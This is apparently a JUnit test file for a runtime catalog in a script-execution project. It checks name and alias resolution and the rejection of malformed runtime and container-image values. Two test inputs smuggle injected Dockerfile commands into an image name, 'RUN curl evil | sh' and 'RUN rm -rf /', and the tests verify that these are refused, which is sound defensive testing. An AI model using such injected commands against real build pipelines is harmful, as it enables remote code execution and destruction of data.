package dev.rgrid.core;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.rgrid.spi.runtime.RuntimeDefinition;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class RuntimeCatalogTest {
  private final RuntimeCatalog catalog = RuntimeCatalog.defaults();

  @Test
  void resolvesNamesAndAliasesCaseInsensitively() {
    assertThat(catalog.resolve("python3.12").name()).isEqualTo("python3.12");
    assertThat(catalog.resolve(" Python ").name()).isEqualTo("python3.11");
    assertThat(catalog.resolve("node").name()).isEqualTo("node20");
  }

  @Test
  void picksTheRuntimeFromTheScriptSuffixElseTheDefault() {
    assertThat(catalog.forScript("a.py").name()).isEqualTo("python3.11");
    assertThat(catalog.forScript("a.js").name()).isEqualTo("node20");
    assertThat(catalog.forScript("a.sh").name()).isEqualTo("bash");
    assertThat(catalog.forScript("Makefile").name()).isEqualTo("python3.11");
  }

  @Test
  void refusesAnUnknownRuntimeListingTheKnownOnes() {
    assertThatThrownBy(() -> catalog.resolve("python:3.11\nRUN curl evil | sh"))
        .isInstanceOf(InvalidRunSpecException.class)
        .hasMessageContaining("python3.11, python3.12, node20, bash")
        .hasMessageNotContaining("\n");
    assertThatThrownBy(() -> catalog.resolve("x".repeat(10_000)))
        .isInstanceOf(InvalidRunSpecException.class)
        .satisfies(e -> assertThat(e.getMessage().length()).isLessThan(300));
  }

  @Test
  void refusesInvalidImageReferencesAndCommands() {
    assertThatThrownBy(() -> new RuntimeDefinition("evil", "python:3.11\nRUN rm -rf /",
        List.of("python3"), List.of(), ".py")).isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new RuntimeDefinition("evil", "UPPER/case", List.of("python3"),
        List.of(), ".py")).isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new RuntimeDefinition("ok", "rgrid/python:3.11", List.of(),
        List.of(), ".py")).isInstanceOf(IllegalArgumentException.class);
    assertThat(RuntimeDefinition.isValidImage("registry.local:5000/team/py@sha256:" + "a".repeat(64)))
        .isTrue();
  }

  @Test
  void refusesAliasesToUnknownRuntimesAndDuplicates() {
    RuntimeDefinition py = catalog.resolve("python3.11");
    assertThatThrownBy(() -> new RuntimeCatalog(List.of(py), Map.of("x", "nope")))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new RuntimeCatalog(List.of(py, py), Map.of()))
        .isInstanceOf(IllegalArgumentException.class);
  }
}
